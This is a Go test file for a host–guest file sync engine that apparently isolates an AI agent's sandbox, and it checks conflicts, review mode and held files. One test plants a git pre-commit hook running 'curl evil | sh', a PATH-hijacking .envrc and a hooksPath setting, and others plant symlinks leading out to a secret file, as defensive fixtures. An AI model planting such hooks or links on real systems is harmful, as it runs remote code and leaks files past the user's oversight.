@@ -1,0 +1,277 @@
+package wsync
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+type pair struct {
+	host, guest string
+	e           *Engine
+	saved       map[string]*Entry
+}
+
+func newPair(t *testing.T, opts Options) *pair {
+	t.Helper()
+	base := t.TempDir()
+	p := &pair{host: filepath.Join(base, "host"), guest: filepath.Join(base, "guest")}
+	os.Mkdir(p.host, 0o755)
+	os.Mkdir(p.guest, 0o755)
+	p.e = p.engine(t, nil, opts)
+	return p
+}
+
+func (p *pair) engine(t *testing.T, manifest map[string]*Entry, opts Options) *Engine {
+	hr, err := OpenRoot(p.host)
+	if err != nil {
+		t.Fatal(err)
+	}
+	gr, err := OpenRoot(p.guest)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { hr.Close(); gr.Close() })
+	opts.Now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }
+	e := NewEngine(&HostSide{Root: hr}, &HostSide{Root: gr}, manifest, opts, func(m map[string]*Entry) { p.saved = m })
+	p.e = e
+	return e
+}
+
+func (p *pair) sync(t *testing.T) {
+	t.Helper()
+	if err := p.e.Sync(context.Background(), nil); err != nil {
+		t.Fatal(err)
+	}
+	if errs := p.e.Status().Errors; len(errs) > 0 {
+		t.Fatalf("sync errors: %v", errs)
+	}
+}
+
+func write(t *testing.T, dir, rel, content string) {
+	t.Helper()
+	p := filepath.Join(dir, rel)
+	os.MkdirAll(filepath.Dir(p), 0o755)
+	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func read(dir, rel string) string {
+	b, err := os.ReadFile(filepath.Join(dir, rel))
+	if err != nil {
+		return "<" + err.Error() + ">"
+	}
+	return string(b)
+}
+
+func exists(dir, rel string) bool {
+	_, err := os.Lstat(filepath.Join(dir, rel))
+	return err == nil
+}
+
+func TestInitialPopulationAndBothWays(t *testing.T) {
+	p := newPair(t, Options{})
+	write(t, p.host, "a.txt", "from host")
+	write(t, p.host, "src/main.go", "package main")
+	os.Symlink("src/main.go", filepath.Join(p.host, "link"))
+	os.Chmod(filepath.Join(p.host, "src/main.go"), 0o755)
+	p.sync(t)
+	if read(p.guest, "src/main.go") != "package main" || read(p.guest, "a.txt") != "from host" {
+		t.Fatal("initial population incomplete")
+	}
+	if fi, _ := os.Stat(filepath.Join(p.guest, "src/main.go")); fi.Mode().Perm() != 0o755 {
+		t.Fatalf("mode not preserved: %v", fi.Mode())
+	}
+	if l, _ := os.Readlink(filepath.Join(p.guest, "link")); l != "src/main.go" {
+		t.Fatalf("link: %q", l)
+	}
+	// Guest → host: create, modify, delete, rename.
+	write(t, p.guest, "new.txt", "made inside")
+	write(t, p.guest, "a.txt", "changed inside")
+	os.Rename(filepath.Join(p.guest, "src/main.go"), filepath.Join(p.guest, "src/app.go"))
+	p.sync(t)
+	if read(p.host, "new.txt") != "made inside" || read(p.host, "a.txt") != "changed inside" || read(p.host, "src/app.go") != "package main" || exists(p.host, "src/main.go") {
+		t.Fatal("guest changes did not reach the host")
+	}
+	// Host → guest, and a directory deleted on the host.
+	write(t, p.host, "notes.md", "user")
+	os.RemoveAll(filepath.Join(p.host, "src"))
+	p.sync(t)
+	if read(p.guest, "notes.md") != "user" || exists(p.guest, "src") {
+		t.Fatal("host changes did not reach the guest")
+	}
+	// Nothing left to do: a second sync changes nothing (no echo).
+	before := p.e.Manifest()
+	p.sync(t)
+	if len(p.e.Manifest()) != len(before) {
+		t.Fatal("a sync without changes changed the manifest")
+	}
+}
+
+func TestConflictKeepsBoth(t *testing.T) {
+	p := newPair(t, Options{})
+	write(t, p.host, "f.txt", "base")
+	p.sync(t)
+	write(t, p.host, "f.txt", "user edit")
+	write(t, p.guest, "f.txt", "agent edit")
+	p.sync(t)
+	cp := "f.txt.sandbox-conflict-20260102-030405"
+	if read(p.host, "f.txt") != "user edit" || read(p.guest, "f.txt") != "user edit" {
+		t.Fatalf("the user's version must stay: host %q guest %q", read(p.host, "f.txt"), read(p.guest, "f.txt"))
+	}
+	if read(p.host, cp) != "agent edit" || read(p.guest, cp) != "agent edit" {
+		t.Fatal("the agent's version was lost")
+	}
+	if c := p.e.Status().Conflicts; len(c) != 1 || c[0].Copy != cp {
+		t.Fatalf("conflict not reported: %+v", c)
+	}
+	// Deleted on one side, changed on the other: the change survives.
+	write(t, p.host, "g.txt", "v1")
+	p.sync(t)
+	os.Remove(filepath.Join(p.guest, "g.txt"))
+	write(t, p.host, "g.txt", "v2 by user")
+	p.sync(t)
+	if read(p.guest, "g.txt") != "v2 by user" {
+		t.Fatal("a user edit was lost to a guest delete")
+	}
+}
+
+func TestGuestLinkOutIsHeld(t *testing.T) {
+	p := newPair(t, Options{})
+	p.sync(t)
+	outside := filepath.Join(filepath.Dir(p.host), "secret")
+	write(t, filepath.Dir(p.host), "secret", "PRIVATE")
+	os.Symlink(outside, filepath.Join(p.guest, "leak"))
+	os.Symlink("../secret", filepath.Join(p.guest, "leak2"))
+	os.Symlink("inside.txt", filepath.Join(p.guest, "ok"))
+	p.sync(t)
+	if exists(p.host, "leak") || exists(p.host, "leak2") {
+		t.Fatal("a link leaving the folder was created on the host")
+	}
+	if l, _ := os.Readlink(filepath.Join(p.host, "ok")); l != "inside.txt" {
+		t.Fatal("an inside link was not created")
+	}
+	held := p.e.Status().Held
+	if len(held) != 2 || !strings.Contains(held[0].Why, "leaves the folder") {
+		t.Fatalf("held: %+v", held)
+	}
+}
+
+func TestHeldFilesWaitForApproval(t *testing.T) {
+	p := newPair(t, Options{})
+	write(t, p.host, ".git/config", "[core]\n\tbare = false\n")
+	p.sync(t)
+	write(t, p.guest, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+	write(t, p.guest, ".envrc", "export PATH=/tmp/evil:$PATH")
+	write(t, p.guest, ".git/config", "[core]\n\tbare = false\n\thooksPath = /tmp/evil\n")
+	write(t, p.guest, "main.go", "fine")
+	p.sync(t)
+	for _, f := range []string{".git/hooks/pre-commit", ".envrc"} {
+		if exists(p.host, f) {
+			t.Fatalf("%s written to the host without approval", f)
+		}
+	}
+	if strings.Contains(read(p.host, ".git/config"), "hooksPath") {
+		t.Fatal("a risky git config change reached the host")
+	}
+	if read(p.host, "main.go") != "fine" {
+		t.Fatal("an ordinary file was held too")
+	}
+	if n := len(p.e.Status().Held); n != 3 {
+		t.Fatalf("%d held, want 3: %+v", n, p.e.Status().Held)
+	}
+	// Harmless git config change passes.
+	write(t, p.guest, ".git/config", "[core]\n\tbare = false\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")
+	p.sync(t)
+	if !strings.Contains(read(p.host, ".git/config"), "branch") {
+		t.Fatal("a harmless git config change was held")
+	}
+	if _, err := p.e.Apply(context.Background(), []string{".git/hooks/pre-commit"}, true); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(read(p.host, ".git/hooks/pre-commit"), "curl") {
+		t.Fatal("approval did not write the file")
+	}
+	// The guest keeps its version meanwhile, and the next sync does not
+	// undo it.
+	p.sync(t)
+	if !exists(p.guest, ".envrc") {
+		t.Fatal("the guest lost its held file")
+	}
+}
+
+func TestReviewMode(t *testing.T) {
+	p := newPair(t, Options{Review: true})
+	write(t, p.host, "keep.txt", "host")
+	p.sync(t)
+	write(t, p.guest, "keep.txt", "agent change")
+	write(t, p.guest, "added.txt", "agent added")
+	p.sync(t)
+	if read(p.host, "keep.txt") != "host" || exists(p.host, "added.txt") {
+		t.Fatal("review mode wrote to the host")
+	}
+	if n := len(p.e.Status().Pending); n != 2 {
+		t.Fatalf("%d pending", n)
+	}
+	if _, err := p.e.Apply(context.Background(), []string{"added.txt"}, false); err != nil {
+		t.Fatal(err)
+	}
+	if read(p.host, "added.txt") != "agent added" {
+		t.Fatal("apply did not write")
+	}
+	if _, err := p.e.Discard(context.Background(), nil); err != nil {
+		t.Fatal(err)
+	}
+	if read(p.guest, "keep.txt") != "host" {
+		t.Fatal("discard did not restore the guest")
+	}
+	p.sync(t)
+	if len(p.e.Status().Pending) != 0 {
+		t.Fatalf("still pending: %+v", p.e.Status().Pending)
+	}
+}
+
+func TestExcludeAndUserFilesInDeletedDir(t *testing.T) {
+	p := newPair(t, Options{Exclude: []string{"node_modules", "build/out"}})
+	write(t, p.host, "dir/a", "1")
+	p.sync(t)
+	write(t, p.guest, "node_modules/x/index.js", "dep")
+	write(t, p.guest, "build/out/bin", "artifact")
+	p.sync(t)
+	if exists(p.host, "node_modules") || exists(p.host, "build/out") {
+		t.Fatal("excluded trees reached the host")
+	}
+	// The agent deletes dir/ while the user adds a file in it.
+	os.RemoveAll(filepath.Join(p.guest, "dir"))
+	write(t, p.host, "dir/user.txt", "mine")
+	p.sync(t)
+	if read(p.host, "dir/user.txt") != "mine" {
+		t.Fatal("a user's new file was deleted with its directory")
+	}
+	if exists(p.host, "dir/a") {
+		t.Fatal("the agent's delete of an unchanged file did not reach the host")
+	}
+}
+
+func TestManifestAcrossRestart(t *testing.T) {
+	p := newPair(t, Options{})
+	write(t, p.host, "a", "1")
+	write(t, p.host, "b", "1")
+	p.sync(t)
+	saved := p.saved
+	// Stopped: the user edits a and deletes b on the host.
+	write(t, p.host, "a", "2 by user")
+	os.Remove(filepath.Join(p.host, "b"))
+	p.engine(t, saved, Options{})
+	p.sync(t)
+	if read(p.guest, "a") != "2 by user" || exists(p.guest, "b") {
+		t.Fatal("host edits made while stopped were not applied to the guest")
+	}
+	if exists(p.host, "b") || len(p.e.Status().Conflicts) != 0 {
+		t.Fatal("host edits were mistaken for the agent's")
+	}
+}
